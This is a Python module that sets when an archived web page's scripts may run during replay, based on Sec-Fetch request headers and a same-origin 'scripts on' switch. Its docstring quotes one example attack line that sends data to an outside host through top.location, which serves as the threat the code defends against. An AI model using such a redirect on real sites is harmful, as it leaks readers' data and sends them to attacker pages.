"""Who may turn an archived page's scripts on: by who loads a replay URL (``Sec-Fetch-Dest``) and
the space it asks for, and by where the capture page's "replay with scripts" link was followed
from (``Sec-Fetch-Site``).

An archived document is only ever shown framed by the UI's capture page, inside an iframe whose
sandbox has no ``allow-top-navigation`` and no ``allow-popups``.  Opened as the top-level page (a
typed or shared replay URL, "open frame in new tab", a popup) the same document would escape that
frame: with scripts, ``top.location.href = 'http://elsewhere/?' + data`` sends the reader anywhere,
an open redirect on the archive's own host.  So a top-level navigation (``Sec-Fetch-Dest:
document``) is sent to the capture page, which frames it, in the view without scripts.

Scripts are on only when the reader chose them, on the UI's own page: the capture page honours
``?scripts=on`` only for a navigation from the UI itself (``Sec-Fetch-Site: same-origin``, i.e. the
reader clicked the switch; `capture_scripts`).  The same link followed from another site, typed or
pasted into the address bar (``none``), or sent by a client that names no site, shows the view
without scripts and a notice that the link asked for them, with the switch.  A replay URL or a
capture page link handed to someone therefore never runs scripts for them.

Scripts then run only when both hold: the URL is in the scripted space (``/replay/scripts/...``,
where the scripted capture page points its iframe) and the browser says it is loading a frame.
A scripted replay URL framed by another site is refused by the browser (``frame-ancestors
'self'``).  Every other request (subresources, and clients that send no ``Sec-Fetch-Dest`` at all:
curl, wget, pywb-like tools, browsers older than 2023) gets the archived bytes under the policy
without scripts.  Such clients are not told to go elsewhere: they run no scripts, or, for an old
browser, the policy's sandbox keeps the scripts off.
"""

from __future__ import annotations

from enum import Enum

from archive.links.memento import REPLAY_PATH, SCRIPTED_REPLAY_PATH

# Nested browsing contexts the capture page (or a framed archived page) loads replay URLs into.
FRAME_DESTINATIONS = frozenset({"iframe", "frame"})
TOP_LEVEL_DESTINATION = "document"
# Where the UI's capture page lives, relative to the root the replay router is mounted at.
CAPTURE_PAGE = "captures/{capture_id}"
REPLAY_SPACE = REPLAY_PATH
SCRIPTED_REPLAY_SPACE = SCRIPTED_REPLAY_PATH
# The capture page's switch: ``?scripts=on``, honoured only from the UI's own pages.
SCRIPTS_ON = "on"
SAME_ORIGIN = "same-origin"


class Answer(Enum):
    """What a replay request gets."""

    CAPTURE_PAGE = "a redirect to the capture page framing the capture"
    WITHOUT_SCRIPTS = "the archived content, scripts off"
    WITH_SCRIPTS = "the archived content, scripts on"


class CaptureScripts(Enum):
    """Whether the capture page replays with scripts."""

    OFF = "without scripts: none were asked for"
    ON = "with scripts: the reader switched them on, on the UI's own page"
    REFUSED = "without scripts: a link from elsewhere asked for them; the reader is offered the switch"


def capture_scripts(scripts_param: str | None, sec_fetch_site: str | None) -> CaptureScripts:
    """Whether a capture page asked for with ``?scripts=`` ``scripts_param`` (None when absent) runs
    scripts, for a navigation whose ``Sec-Fetch-Site`` is ``sec_fetch_site`` (None when absent).

    Only ``on`` asks (exactly the switch's link), and only a same-origin navigation gets it.
    """
    if scripts_param != SCRIPTS_ON:
        return CaptureScripts.OFF
    if (sec_fetch_site or "").strip().lower() == SAME_ORIGIN:
        return CaptureScripts.ON
    return CaptureScripts.REFUSED


def answer_for(sec_fetch_dest: str | None, *, scripts_asked: bool) -> Answer:
    """The answer to a request whose ``Sec-Fetch-Dest`` is ``sec_fetch_dest`` (None when absent),
    for a URL in the scripted replay space when ``scripts_asked``."""
    destination = (sec_fetch_dest or "").strip().lower()
    if destination == TOP_LEVEL_DESTINATION:
        return Answer.CAPTURE_PAGE
    if scripts_asked and destination in FRAME_DESTINATIONS:
        return Answer.WITH_SCRIPTS
    return Answer.WITHOUT_SCRIPTS


def capture_page_path(root: str, capture_id: int) -> str:
    """The UI page showing capture ``capture_id``, for a replay router mounted at ``root`` (``/``)."""
    return root + CAPTURE_PAGE.format(capture_id=capture_id)


def replay_prefix(root: str, *, scripts: bool) -> str:
    """The replay space URLs are rewritten into: the scripted one keeps a scripted view scripted."""
    return root + (SCRIPTED_REPLAY_SPACE if scripts else REPLAY_SPACE)
